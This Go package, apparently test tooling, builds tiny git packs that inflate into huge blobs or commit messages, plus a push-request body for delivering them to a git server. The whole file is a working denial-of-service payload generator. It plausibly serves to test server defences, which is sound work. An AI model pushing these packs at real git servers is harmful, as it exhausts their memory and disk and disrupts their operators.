// Package gitbomb makes small packs that contain huge objects, as an attacker would
// send them to a git server.
package gitbomb

import (
	"bytes"
	"compress/zlib"
	"crypto/sha1"
	"encoding/binary"
	"fmt"
	"io"
	"strings"
)

// Pack returns a pack of objects that Object has encoded.
func Pack(objects ...[]byte) []byte {
	pack := binary.BigEndian.AppendUint32([]byte("PACK\x00\x00\x00\x02"), uint32(len(objects)))
	for _, object := range objects {
		pack = append(pack, object...)
	}
	sum := sha1.Sum(pack)
	return append(pack, sum[:]...)
}

// Kinds of objects in a pack. KindDelta is a delta that names its base by id.
const (
	KindCommit = 1
	KindTree   = 2
	KindBlob   = 3
	KindDelta  = 7
)

// Object encodes an object for a pack: its kind and size, the id of its base if it is
// a delta, and the compressed content.
func Object(kind, size int, base []byte, content io.Reader) []byte {
	first := byte(kind<<4 | size&15)
	var object bytes.Buffer
	for rest := size >> 4; rest > 0; rest >>= 7 {
		object.WriteByte(first | 0x80)
		first = byte(rest & 0x7f)
	}
	object.WriteByte(first)
	object.Write(base)
	w := zlib.NewWriter(&object)
	_, _ = io.Copy(w, content) // writing to a buffer never fails
	_ = w.Close()
	return object.Bytes()
}

// ObjectID returns the git object id of an object.
func ObjectID(kind string, size int, content io.Reader) []byte {
	sum := sha1.New()
	fmt.Fprintf(sum, "%s %d\x00", kind, size)
	_, _ = io.Copy(sum, content) // writing to a hash never fails
	return sum.Sum(nil)
}

// letters returns a text of size bytes without holding it in memory.
func letters(size int) io.Reader { return io.LimitReader(manyLetters{}, int64(size)) }

type manyLetters struct{}

func (manyLetters) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
	}
	return len(p), nil
}

// Delta returns a pack of some hundred bytes with a blob of size bytes, encoded as a
// delta that copies its base repeatedly, and the id of the base, which serves as the tip.
func Delta(size int) (pack, tip []byte) {
	const baseSize = 64 << 10
	copies := size / baseSize
	delta := binary.AppendUvarint(nil, baseSize)
	delta = binary.AppendUvarint(delta, uint64(copies*baseSize))
	delta = append(delta, bytes.Repeat([]byte{0x80}, copies)...) // copies 64 KiB from the start
	tip = ObjectID("blob", baseSize, letters(baseSize))
	return Pack(Object(KindBlob, baseSize, nil, letters(baseSize)), Object(KindDelta, len(delta), tip, bytes.NewReader(delta))), tip
}

// Commit returns a pack with a commit whose message has size bytes, and the commit's id.
func Commit(size int) (pack, tip []byte) {
	head := fmt.Sprintf("tree %x\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n\n", ObjectID("tree", 0, letters(0)))
	size += len(head)
	commit := func() io.Reader { return io.MultiReader(strings.NewReader(head), letters(size-len(head))) }
	return Pack(Object(KindTree, 0, nil, letters(0)), Object(KindCommit, size, nil, commit())), ObjectID("commit", size, commit())
}

// Push returns the body of a request that pushes a pack to a new ref.
func Push(ref string, pack, tip []byte) []byte {
	command := fmt.Appendf(nil, "%040d %x %s\x00 report-status side-band-64k", 0, tip, ref)
	body := append(fmt.Appendf(nil, "%04x", len(command)+4), command...)
	return append(append(body, "0000"...), pack...)
}
